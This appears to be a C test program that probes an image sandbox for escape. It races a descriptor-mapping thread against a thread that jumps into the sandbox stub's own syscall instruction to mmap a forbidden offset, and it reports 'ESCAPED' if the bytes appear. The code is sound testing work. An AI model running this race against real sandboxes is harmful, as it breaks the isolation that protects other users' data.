/* SPDX-License-Identifier: Apache-2.0 */
/*
 * image_peek OFFSET: what a user of an image's sandbox may not read lies at OFFSET in the image. While one thread has parts of the
 * image mapped, which puts its descriptor into our table for a moment, another makes the stub's own mmap from the stub's own
 * instructions, with that descriptor's likely numbers and that offset, again and again if it is let. Each try in a process of its own, which may end as it
 * likes. Ends with 1 and a word if it ever sees the bytes.
 */
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define STUB_BASE 0x7ffe00000000UL
#define TEXT 0x1000
#define PLACE 0x10000000UL
#define NUMBERS 64

static unsigned long offset, number, at;

static void *map_on(void *file)
{
	int fd = open(file, O_RDONLY);

	for (;;) {
		void *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);

		if (p != MAP_FAILED)
			munmap(p, 4096);
	}
	return NULL;
}

static sigjmp_buf again;

static void on_fault(int sig)
{
	(void)sig;
	siglongjmp(again, 1);
}

static void *jump(void *unused)
{
	static unsigned long a[4];
	static char stack[65536];
	stack_t ss = {.ss_sp = stack, .ss_size = sizeof(stack)};
	volatile unsigned n = 0;

	(void)unused;
	sigaltstack(&ss, NULL);
	usleep(2000);
	sigsetjmp(again, 1);
	if (n++ >= 200)
		return NULL;
	number = (number + 1) % NUMBERS;
	a[0] = MAP_PRIVATE | MAP_FIXED;
	a[1] = number;
	a[2] = offset;
	__asm__ volatile("mov (%%rbx), %%r10\n\tmov 8(%%rbx), %%r8\n\tmov 16(%%rbx), %%r9\n\tjmp *%%rcx"
			 :
			 : "c"(at), "a"(SYS_mmap), "D"(PLACE), "S"(4096), "d"(PROT_READ), "b"(a)
			 : "memory", "r8", "r9", "r10");
	return NULL;
}

static void attempt(char *file)
{
	volatile char *p = mmap((void *)PLACE, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	static const int faults[] = {SIGSEGV, SIGBUS, SIGILL, SIGTRAP, SIGFPE, SIGSYS};
	struct sigaction sa = {.sa_handler = on_fault, .sa_flags = SA_ONSTACK | SA_NODEFER};
	pthread_t t;

	for (unsigned i = 0; i < sizeof(faults) / sizeof(faults[0]); i++)
		sigaction(faults[i], &sa, NULL);
	pthread_create(&t, NULL, map_on, file);
	pthread_create(&t, NULL, jump, NULL);
	for (int i = 0; i < 60; i++) {
		usleep(500);
		if (p[0] != 0)
			_exit(77);
	}
	_exit(0);
}

int main(int argc, char **argv)
{
	const volatile unsigned char *text = (const volatile unsigned char *)STUB_BASE;
	unsigned tries = argc > 2 ? (unsigned)atoi(argv[2]) : 400, sites = 0, ended = 0;
	unsigned long site[16];

	if (argc < 2)
		return 2;
	offset = strtoul(argv[1], NULL, 0);
	for (unsigned i = 0; i + 1 < TEXT && sites < 16; i++)
		if (text[i] == 0x0f && text[i + 1] == 0x05)
			site[sites++] = STUB_BASE + i;
	if (sites == 0)
		return 2;
	for (unsigned i = 0; i < tries; i++) {
		int status;
		pid_t pid;

		number = i % NUMBERS;
		at = site[i / NUMBERS % sites];
		pid = fork();
		if (pid == 0)
			attempt(argv[0]);
		if (pid < 0 || waitpid(pid, &status, 0) < 0)
			return 2;
		if (WIFEXITED(status) && WEXITSTATUS(status) == 77) {
			puts("ESCAPED: the bytes of another file");
			return 1;
		}
		ended += WIFSIGNALED(status);
	}
	printf("seen nothing; %s\n", ended != 0 ? "some tries were ended" : "no try was ended");
	return 0;
}
